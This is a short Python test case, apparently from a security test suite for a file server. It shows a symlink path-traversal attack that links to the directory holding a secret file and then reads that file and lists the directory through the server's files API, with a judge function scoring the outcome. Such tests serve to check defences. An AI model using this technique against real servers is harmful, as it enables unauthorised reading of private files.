# aim: read a file of the server's machine
# mechanism: a symbolic link to a directory, and a file below it
# server: files
# plain: naive

def attack():
    run(f"import os\nos.symlink({secret_path.rpartition('/')[0]!r}, 'way')")
    ask("GET", f"{here}/files/content?path=way/secret")
    ask("GET", f"{here}/files?path=way&depth=3")


judge(attack)
